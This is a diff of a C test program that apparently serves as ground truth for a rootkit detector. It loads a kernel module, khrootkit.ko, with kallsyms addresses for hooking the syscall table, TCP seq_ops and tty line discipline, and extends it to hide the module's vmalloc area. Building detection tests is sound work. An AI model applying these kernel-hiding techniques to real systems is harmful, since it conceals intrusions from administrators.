@@ -2063,8 +2063,9 @@ static void req_pids(const char *comm)
  *              and a page of a memfd (kh-mfd) mapped PROT_READ|EXEC
  * (both are forks of kh-truth, no exec: their cmdline is kh-truth's).
  * Then finit_module(khrootkit.ko, "hide_pid=PID sct=ADDR seq_ops=ADDR
- * ldisc_ops=ADDR"), the addresses of sys_call_table, tcp4_seq_ops and
- * n_tty_ops from /proc/kallsyms, and replies
+ * ldisc_ops=ADDR vmap_list=ADDR"), the addresses of sys_call_table,
+ * tcp4_seq_ops, n_tty_ops and vmap_area_list from /proc/kallsyms, and
+ * replies
  *   ok hidden=PID rwx=PID:START-END mfd=START-END sct=SCT nr=NR hook=HOOK kprobe=KP nf=NF
  *      ftrace=FTRACE seq=SEQ_OPS:SHOW tty=LDISC_OPS:RECEIVE_BUF idt=IDT_HOOK
  * START-END as in /proc/PID/maps, the rest read back from
@@ -2122,8 +2123,9 @@ static void hidden_main(int wfd)
 
 /*
  * "vanish": after "rootkit", khrootkit takes its kobject out of sysfs
- * (writes its vanish parameter); "ok" once /sys/module/khrootkit is gone
- * (10 s at most).
+ * and skips its vmalloc area in vmap_area_list's prev links (writes its
+ * vanish parameter); "ok" once /sys/module/khrootkit is gone (10 s at
+ * most).
  */
 static void req_vanish(void)
 {
@@ -2409,7 +2411,8 @@ static void req_rootkit(void)
 	char line[128], path[128], params[192];
 	char sct[32], nr[32], hook[32], kp[32], nf[32], ft[32];
 	char seq[32], show[32], ldisc[32], recv[32], idt[32];
-	unsigned long table, seq_ops, ldisc_ops, start, end, mfd_start, mfd_end;
+	unsigned long table, seq_ops, ldisc_ops, vmap_list, start, end;
+	unsigned long mfd_start, mfd_end;
 	int hidden = -1, rwx = -1, fd;
 	struct utsname u;
 
@@ -2420,8 +2423,9 @@ static void req_rootkit(void)
 	table = kallsyms_addr("sys_call_table");
 	seq_ops = kallsyms_addr("tcp4_seq_ops");
 	ldisc_ops = kallsyms_addr("n_tty_ops");
-	if (!table || !seq_ops || !ldisc_ops) {
-		fprintf(out, "error no sys_call_table, tcp4_seq_ops or n_tty_ops in /proc/kallsyms\n");
+	vmap_list = kallsyms_addr("vmap_area_list");
+	if (!table || !seq_ops || !ldisc_ops || !vmap_list) {
+		fprintf(out, "error no sys_call_table, tcp4_seq_ops, n_tty_ops or vmap_area_list in /proc/kallsyms\n");
 		return;
 	}
 	uname(&u);
@@ -2450,8 +2454,8 @@ static void req_rootkit(void)
 		goto fail;
 	}
 	snprintf(params, sizeof(params),
-		 "hide_pid=%d sct=0x%lx seq_ops=0x%lx ldisc_ops=0x%lx", hidden,
-		 table, seq_ops, ldisc_ops);
+		 "hide_pid=%d sct=0x%lx seq_ops=0x%lx ldisc_ops=0x%lx vmap_list=0x%lx",
+		 hidden, table, seq_ops, ldisc_ops, vmap_list);
 	if (syscall(SYS_finit_module, fd, params, 0)) {
 		fprintf(out, "error finit_module %s: %s (see dmesg)\n", path,
 			strerror(errno));
